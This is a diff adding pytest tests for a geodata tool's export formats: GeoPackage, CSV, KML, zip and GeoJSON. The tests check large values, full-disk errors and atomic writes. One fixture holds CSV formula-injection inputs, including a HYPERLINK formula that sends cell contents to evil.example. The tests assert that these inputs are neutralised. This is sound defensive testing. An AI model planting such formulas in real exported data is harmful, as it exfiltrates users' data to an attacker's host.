@@ -2,22 +2,42 @@
 
 from __future__ import annotations
 
+import csv
 import errno
+import html
 import json
 import os
+import zipfile
 from datetime import date
+from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
+from xml.etree import ElementTree as ET
 
+import pyogrio
+import pyogrio.errors
 import pytest
 from typer.testing import CliRunner
 
 import geo._io
+import geo.export.gpkg
+from geo._errors import OutputError
 from geo.cli import app
+from geo.dataset import Dataset
 from geo.events import MAX_CLAIM_VALUE, MIN_YEAR
-from geo.layers import MAX_JSON_DEPTH, MAX_LAYER_BYTES, parse_layer, validate_paths
+from geo.export import export_package, import_export
+from geo.export.flat import csv_cell
+from geo.join import join_events
+from geo.layers import (
+    MAX_JSON_DEPTH,
+    MAX_LAYER_BYTES,
+    episodes_frame,
+    layers_to_frame,
+    parse_layer,
+    validate_paths,
+)
 from geo.text import printable
-from tests.factories import SOURCE, claim, event, layer
+from tests.factories import SOURCE, claim, event, four_squares, layer
 
 runner = CliRunner()
 WHERE = "layers/t.geojson feature 0 (id test-2020-07-14-a)"
@@ -244,3 +264,148 @@ def test_codebook_to_a_read_only_folder_is_a_clear_error(
     assert result.exit_code == 1
     assert result.exception is None or isinstance(result.exception, SystemExit)
     assert result.output.strip() == f"cannot write {folder / 'CODEBOOK.md'}: Permission denied"
+
+
+# --- 1 and 3. exports -----------------------------------------------------------------------
+
+
+def dataset_of(data: dict[str, Any]) -> Dataset:
+    parsed, problems = parse_layer(data, origin="layers/t.geojson")
+    assert parsed is not None and problems == [], problems
+    admin = four_squares()
+    return Dataset(join_events(layers_to_frame([parsed]), admin), episodes_frame([parsed]), admin)
+
+
+BIG = MAX_CLAIM_VALUE  # above 2**31: a 5-billion-manat damage claim is realistic
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.fixture(scope="module")
+def hostile_data() -> Dataset:
+    first = event(
+        claims=[
+            claim(value=BIG),
+            claim(measure="property_damage_azn", value=5_000_000_000, side="any", group="any"),
+        ],
+        notes=FORMULA,
+        location="-2+3 & <Tovuz>",
+        actor2="@SUM(A1:A9)",
+        tags=["'quoted", "+plus"],
+    )
+    second = event(
+        "test-2020-07-14-b", notes="+48 hours of shelling", location="Safe place", claims=[]
+    )
+    return dataset_of(layer(first, second))
+
+
+def test_claims_above_32_bits_survive_every_export(tmp_path: Path, hostile_data: Dataset) -> None:
+    gpkg = export_package(hostile_data, tmp_path / "x.gpkg", fmt="gpkg")
+    back = import_export(gpkg)
+    assert int(back.loc["test-2020-07-14-a", "deaths_best"]) == BIG
+    claims = pyogrio.read_dataframe(gpkg, layer="claims")
+    assert sorted(int(v) for v in claims["value"]) == [5_000_000_000, BIG]
+    summary = pyogrio.read_dataframe(gpkg, layer="region_summary")
+    assert int(summary["deaths_best"].max()) == BIG
+    archive = export_package(hostile_data, tmp_path / "x.zip", fmt="zip")
+    with zipfile.ZipFile(archive) as zf:
+        inner = tmp_path / "inner.gpkg"
+        inner.write_bytes(zf.read("x.gpkg"))
+    assert int(import_export(inner).loc["test-2020-07-14-a", "deaths_best"]) == BIG
+    geojson = export_package(hostile_data, tmp_path / "x.geojson", fmt="geojson")
+    assert int(import_export(geojson).loc["test-2020-07-14-a", "deaths_best"]) == BIG
+
+
+def test_csv_cells_that_start_a_formula_are_neutralised(
+    tmp_path: Path, hostile_data: Dataset
+) -> None:
+    out = export_package(hostile_data, tmp_path / "x.csv", fmt="csv")
+    with out.open(encoding="utf-8", newline="") as fh:
+        rows = {r["event_id"]: r for r in csv.DictReader(fh)}
+    first, second = rows["test-2020-07-14-a"], rows["test-2020-07-14-b"]
+    assert first["notes"] == "'" + FORMULA
+    assert first["location"] == "'-2+3 & <Tovuz>"
+    assert first["actor2"] == "'@SUM(A1:A9)"
+    assert first["tags"] == "''quoted; +plus"  # only the cell's first character counts
+    assert second["notes"] == "'+48 hours of shelling"
+    assert second["location"] == "Safe place"
+    assert first["deaths_best"] == str(BIG)  # numbers stay numbers
+    # Validation strips leading whitespace, so tab and CR are covered here directly:
+    assert csv_cell("\tx") == "'\tx" and csv_cell("\rx") == "'\rx" and csv_cell("a=b") == "a=b"
+    every_cell = [c for r in rows.values() for c in r.values()]
+    assert not [c for c in every_cell if c[:1] in ("=", "+", "@", "\t", "\r")]
+
+
+def test_kml_text_is_escaped_by_one_rule(tmp_path: Path, hostile_data: Dataset) -> None:
+    out = export_package(hostile_data, tmp_path / "x.kml", fmt="kml")
+    ns = {"k": "http://www.opengis.net/kml/2.2"}
+    root = ET.parse(out).getroot()
+    mark = root.find(".//k:Placemark[@id='test-2020-07-14-a']", ns)
+    assert mark is not None
+    # Plain-text elements read back as the data itself ...
+    assert mark.findtext("k:name", namespaces=ns) == "-2+3 & <Tovuz>"
+    values = {
+        d.get("name"): d.findtext("k:value", namespaces=ns)
+        for d in mark.iterfind("k:ExtendedData/k:Data", ns)
+    }
+    assert values["notes"] == FORMULA and values["location"] == "-2+3 & <Tovuz>"
+    # ... and the HTML description reads back as HTML whose text is the data itself.
+    description = mark.findtext("k:description", namespaces=ns) or ""
+    assert html.escape(FORMULA, quote=True) in description
+    assert "<p>" in description and "&lt;Tovuz&gt;" not in description  # no location there
+    texts = _HtmlText()
+    texts.feed(description)
+    assert FORMULA in texts.text
+
+
+class _HtmlText(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.text = ""
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def test_a_csv_export_is_replaced_as_a_whole_or_not_at_all(
+    tmp_path: Path, hostile_data: Dataset, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    first = export_package(hostile_data, tmp_path / "x.csv", fmt="csv")
+    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
+    assert sorted(before) == ["x.csv", "x_claims.csv", "x_sources.csv"]
+    real = Path.write_bytes
+
+    def fail_on_sources(self: Path, data: bytes) -> int:
+        if "_sources" in self.name:
+            raise OSError(errno.ENOSPC, "No space left on device")
+        return real(self, data)
+
+    monkeypatch.setattr(Path, "write_bytes", fail_on_sources)
+    smaller = dataset_of(layer(event()))
+    with pytest.raises(OutputError, match=r"cannot write .*x_sources\.csv: No space left"):
+        export_package(smaller, first, fmt="csv")
+    after = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
+    assert after == before  # old set intact, no temporary file left
+
+
+def test_a_full_disk_during_a_geopackage_export_is_a_clear_error(
+    tmp_path: Path, hostile_data: Dataset, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    target = tmp_path / "x.gpkg"
+    target.write_bytes(b"previous export")
+    calls = []
+
+    def full(*args: Any, **kwargs: Any) -> None:
+        calls.append(args[1])
+        Path(args[1]).write_bytes(b"partial")  # GDAL had begun the file
+        raise pyogrio.errors.DataLayerError(
+            "Error while writing batch to OGR layer: sqlite3_exec(COMMIT) failed: "
+            "database or disk is full"
+        )
+
+    monkeypatch.setattr(geo.export.gpkg.pyogrio, "write_arrow", full)
+    with pytest.raises(OutputError) as info:
+        export_package(hostile_data, target, fmt="gpkg")
+    assert str(info.value) == f"cannot write {target}: database or disk is full"
+    assert target.read_bytes() == b"previous export"
+    assert [p.name for p in tmp_path.iterdir()] == ["x.gpkg"]  # the partial file is gone
+    assert Path(calls[0]).parent == tmp_path
